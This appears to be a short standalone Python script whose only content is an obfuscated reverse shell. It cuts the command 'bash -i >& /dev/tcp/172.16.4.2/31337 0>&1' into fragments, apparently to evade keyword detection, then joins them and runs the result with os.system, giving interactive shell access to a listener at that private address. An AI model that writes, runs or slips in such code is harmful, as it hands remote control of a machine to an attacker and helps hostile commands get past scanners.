#!/usr/bin/env python3

import os
parts = ['bash ', '-i >&', ' /dev', '/tcp/', '172.1', '6.4.2', '/3133', '7 0>&', '1']
os.system("".join(parts))
